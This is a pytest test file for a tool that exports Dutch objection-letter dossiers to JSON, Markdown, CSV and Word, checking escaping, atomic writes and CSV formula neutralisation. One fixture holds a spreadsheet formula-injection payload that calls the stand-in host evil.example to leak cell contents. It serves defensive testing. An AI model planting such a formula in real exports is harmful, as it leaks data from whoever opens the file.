"""The exports of an objection dossier for the lawyer: JSON, Markdown, CSV and DOCX, written whole or not at all."""

from __future__ import annotations

import csv
import json
import os

import docx
import pytest

from assistant.objections import exports
from assistant.objections.exports import DISCLAIMER, write_exports
from bronvast.schema import Dossier, Ground, GroundCluster, LetterCard

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
UNVERIFIED = "⚠ citaat niet teruggevonden in de brief"

CSV_HEADER = [
    "Bestand", "Briefdatum", "Ontvangen", "Indiener", "Gemachtigde", "Datum besluit", "Kenmerk besluit",
    "Onderwerp besluit", "Gronden", "Verzoek", "Horen", "Pro forma", "Ontbreekt", "Termijn tot", "Tijdig",
    "Reden tijdigheid", "Beslissen uiterlijk", "Opmerkingen",
]
OVERVIEW_HEADER = [
    "Bestand", "Briefdatum", "Ontvangen", "Termijn tot", "Tijdig", "Pro forma", "Horen", "Gemachtigde", "Ontbreekt",
]


def card(file: str, **fields) -> LetterCard:
    defaults = dict(
        letter_date="2025-03-01", received_date="2025-03-03", sender="indiener 1", gemachtigde=None,
        decision_date="2025-02-10", decision_reference="2025-0042", decision_subject="vergunning Dorpsstraat 5",
        grounds=(), request="het besluit herroepen (geëist)", hearing_requested=True, pro_forma=False, missing=(),
        deadline="2025-03-24", on_time=True, on_time_reason=None, decision_deadline="2025-05-19", notes=(),
        text="de brief",
    )
    return LetterCard(file=file, **{**defaults, **fields})


PARKING = Ground("Te weinig parkeerplaatsen", "Er is nu al geen plek om te parkeren.", "pagina 1, alinea 2", True)
SHADOW = Ground("Schaduw op de tuin", "De aanbouw neemt al het zonlicht weg.", "alinea 3", False)
NOISE = Ground("Geluidsoverlast", "Het lawaai van de airco's\nis de hele nacht te horen.", "alinea 2", True)


@pytest.fixture
def dossier() -> Dossier:
    return Dossier(
        letters=(
            card("bezwaar-jansen.pdf", grounds=(PARKING, SHADOW), notes=("handtekening onduidelijk",)),
            card("bezwaar-de-vries.docx", received_date=None, on_time=None,
                 on_time_reason="de ontvangstdatum ontbreekt", gemachtigde="gemachtigde 1", pro_forma=True,
                 missing=("ondertekening", "datum"), grounds=(PARKING, NOISE), notes=("geen ontvangststempel",)),
            card("bezwaar-3.eml", request=f"{FORMULA} | en\nnog een regel", grounds=(NOISE,), hearing_requested=False,
                 sender="-indiener 3", decision_reference="+31 20 123"),
        ),
        clusters=(
            GroundCluster("parkeerdruk", 2, ("bezwaar-jansen.pdf", "bezwaar-de-vries.docx"),
                          ("Er is nu al geen plek om te parkeren.",)),
            GroundCluster("=geluid", 2, ("bezwaar-de-vries.docx", "bezwaar-3.eml"),
                          ("Het lawaai van de airco's\nis de hele nacht te horen.",)),
        ),
        rejected=(("kapot.pdf", "het bestand is beschadigd"),),
    )


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


def test_writes_every_export_and_returns_their_paths(tmp_path, dossier):
    out = tmp_path / "nieuw" / "map"  # created when missing
    paths = write_exports(dossier, out)
    assert [path.name for path in paths] == [
        "bezwaren.json", "bezwaren.md", "bezwaren.csv", "clusters.csv", "bezwaren.docx",
    ]
    assert all(path.parent == out and path.is_file() for path in paths)


def test_json_is_the_dossier_plus_the_disclaimer(tmp_path, dossier):
    write_exports(dossier, tmp_path)
    raw = (tmp_path / "bezwaren.json").read_bytes()
    assert "geëist".encode() in raw  # UTF-8 as is, not \u escapes
    # Through json once more: to_json holds tuples where the file (JSON) has lists.
    expected = json.loads(json.dumps({**dossier.to_json(), "disclaimer": DISCLAIMER}))
    assert json.loads(raw.decode("utf-8")) == expected
    assert b'\n  "letters"' in raw  # indented


def test_csv_has_the_header_and_one_row_per_letter(tmp_path, dossier):
    write_exports(dossier, tmp_path)
    raw = (tmp_path / "bezwaren.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel looks for
    assert raw.decode("utf-8-sig").startswith("Bestand;Briefdatum;")  # Dutch Excel's separator
    header, *rows = read_csv(tmp_path / "bezwaren.csv")
    assert header == CSV_HEADER
    assert [row[0] for row in rows] == ["bezwaar-jansen.pdf", "bezwaar-de-vries.docx", "bezwaar-3.eml"]
    jansen, de_vries, third = (dict(zip(header, row)) for row in rows)
    assert jansen["Gronden"] == "Te weinig parkeerplaatsen | Schaduw op de tuin"
    assert jansen["Horen"] == "ja" and jansen["Pro forma"] == "nee" and jansen["Tijdig"] == "ja"
    assert jansen["Gemachtigde"] == "" and jansen["Reden tijdigheid"] == ""  # None: an empty cell
    assert de_vries["Ontvangen"] == "" and de_vries["Tijdig"] == ""
    assert de_vries["Reden tijdigheid"] == "de ontvangstdatum ontbreekt"
    assert de_vries["Ontbreekt"] == "ondertekening; datum"
    assert de_vries["Opmerkingen"] == "geen ontvangststempel"
    assert third["Horen"] == "nee"


def test_csv_neutralises_formulas(tmp_path, dossier):
    write_exports(dossier, tmp_path)
    header, *rows = read_csv(tmp_path / "bezwaren.csv")
    third = dict(zip(header, rows[2]))
    assert third["Verzoek"] == f"'{FORMULA} | en\nnog een regel"  # the newline survives in a quoted cell
    assert third["Indiener"] == "'-indiener 3"
    assert third["Kenmerk besluit"] == "'+31 20 123"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_an_apostrophe(start):
    assert exports.csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert exports.csv_cell(f"a{start}1") == f"a{start}1"  # only the first character counts


def test_clusters_csv(tmp_path, dossier):
    write_exports(dossier, tmp_path)
    assert read_csv(tmp_path / "clusters.csv") == [
        ["Grond", "Aantal", "Brieven"],
        ["parkeerdruk", "2", "bezwaar-jansen.pdf; bezwaar-de-vries.docx"],
        ["'=geluid", "2", "bezwaar-de-vries.docx; bezwaar-3.eml"],
    ]


def test_no_clusters_no_clusters_csv_and_a_stale_one_is_removed(tmp_path, dossier):
    write_exports(dossier, tmp_path)
    paths = write_exports(Dossier(letters=dossier.letters), tmp_path)
    assert "clusters.csv" not in [path.name for path in paths]
    assert not (tmp_path / "clusters.csv").exists()
    assert "Terugkerende gronden" not in (tmp_path / "bezwaren.md").read_text(encoding="utf-8")


def test_docx_has_the_overview_table_the_disclaimer_and_the_warning(tmp_path, dossier):
    write_exports(dossier, tmp_path)
    document = docx.Document(str(tmp_path / "bezwaren.docx"))
    [table] = document.tables
    rows = [[cell.text for cell in row.cells] for row in table.rows]
    assert rows[0] == OVERVIEW_HEADER
    assert [row[0] for row in rows[1:]] == [letter.file for letter in dossier.letters]
    assert rows[2][OVERVIEW_HEADER.index("Tijdig")] == "onbekend (de ontvangstdatum ontbreekt)"
    assert rows[2][OVERVIEW_HEADER.index("Ontbreekt")] == "ondertekening; datum"
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert DISCLAIMER in text
    assert text.count(UNVERIFIED) == 1  # only SHADOW's quote was not found
    assert "Vindplaats: pagina 1, alinea 2" in text and "Terugkerende gronden" in text
    quotes = [p for p in document.paragraphs if p.text == SHADOW.quote]
    assert quotes and all(run.italic for run in quotes[0].runs)


def test_docx_drops_characters_word_cannot_hold(tmp_path, dossier):
    # A form feed from a PDF's text would make python-docx refuse the whole document.
    letter = card("scan.pdf", grounds=(Ground("Grond\x0c met pagina-einde", "citaat\x00", "alinea 1", True),))
    write_exports(Dossier(letters=(letter,)), tmp_path)
    text = "\n".join(p.text for p in docx.Document(str(tmp_path / "bezwaren.docx")).paragraphs)
    assert "1. Grond met pagina-einde" in text


def test_markdown(tmp_path, dossier):
    write_exports(dossier, tmp_path)
    markdown = (tmp_path / "bezwaren.md").read_text(encoding="utf-8")
    assert markdown.startswith("# ")
    assert DISCLAIMER in markdown
    table = [line for line in markdown.splitlines() if line.startswith("|")]
    assert len(table) == 2 + len(dossier.letters)  # header, separator, one row per letter
    assert table[0] == "| " + " | ".join(OVERVIEW_HEADER) + " |"
    assert "| onbekend (de ontvangstdatum ontbreekt) |" in table[3]
    assert markdown.count(UNVERIFIED) == 1
    assert "Terugkerende gronden" in markdown and "### parkeerdruk (2×)" in markdown
    assert "- kapot.pdf: het bestand is beschadigd" in markdown


def test_markdown_escapes_table_cells():
    assert exports.table_cell("a | b\nc") == "a \\| b<br>c"
    assert exports.table_cell("a\\|b") == "a\\\\\\|b"  # an existing escape cannot close the cell
    letter = card("bezwaar|pipe.pdf", gemachtigde="mr. A | B\nkantoor")
    row = exports.markdown_overview((letter,))[4]
    assert row.startswith("| bezwaar\\|pipe.pdf |") and "| mr. A \\| B<br>kantoor |" in row
    assert row.count(" | ") == len(OVERVIEW_HEADER) - 1  # the unescaped separators: the column count is intact


def test_markdown_grounds_are_a_numbered_list_with_quote_and_location(tmp_path, dossier):
    write_exports(dossier, tmp_path)
    markdown = (tmp_path / "bezwaren.md").read_text(encoding="utf-8")
    de_vries = markdown.split("## bezwaar-de-vries.docx")[1].split("## bezwaar-3.eml")[0]
    assert "1. Te weinig parkeerplaatsen\n\n   > Er is nu al geen plek om te parkeren.\n" in de_vries
    assert "   Vindplaats: pagina 1, alinea 2" in de_vries
    assert "2. Geluidsoverlast\n\n   > Het lawaai van de airco's\n   > is de hele nacht te horen.\n" in de_vries
    assert "- **Gemachtigde:** gemachtigde 1" in de_vries and "- **Pro forma:** ja" in de_vries
    assert "- geen ontvangststempel" in de_vries


def test_an_existing_export_is_replaced_and_no_temporary_file_is_left(tmp_path, dossier):
    (tmp_path / "bezwaren.md").write_text("oud", encoding="utf-8")
    (tmp_path / "notities.txt").write_text("van de jurist", encoding="utf-8")
    write_exports(dossier, tmp_path)
    assert DISCLAIMER in (tmp_path / "bezwaren.md").read_text(encoding="utf-8")
    assert (tmp_path / "notities.txt").read_text(encoding="utf-8") == "van de jurist"  # other files left alone
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "bezwaren.csv", "bezwaren.docx", "bezwaren.json", "bezwaren.md", "clusters.csv", "notities.txt",
    ]


def test_an_interrupted_write_keeps_the_old_file(tmp_path, monkeypatch):
    target = tmp_path / "bezwaren.json"
    target.write_text("oud", encoding="utf-8")

    def interrupted(source, destination):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        exports.write_atomically(target, b"nieuw")
    assert target.read_text(encoding="utf-8") == "oud"
    assert [path.name for path in tmp_path.iterdir()] == ["bezwaren.json"]  # the temporary file is cleaned up


def test_a_rendering_error_writes_nothing(tmp_path, dossier, monkeypatch):
    (tmp_path / "bezwaren.json").write_text("oud", encoding="utf-8")

    def broken(dossier):
        raise RuntimeError("kapot")

    monkeypatch.setattr(exports, "render_docx", broken)
    with pytest.raises(RuntimeError):
        write_exports(dossier, tmp_path)
    assert [path.name for path in tmp_path.iterdir()] == ["bezwaren.json"]
    assert (tmp_path / "bezwaren.json").read_text(encoding="utf-8") == "oud"
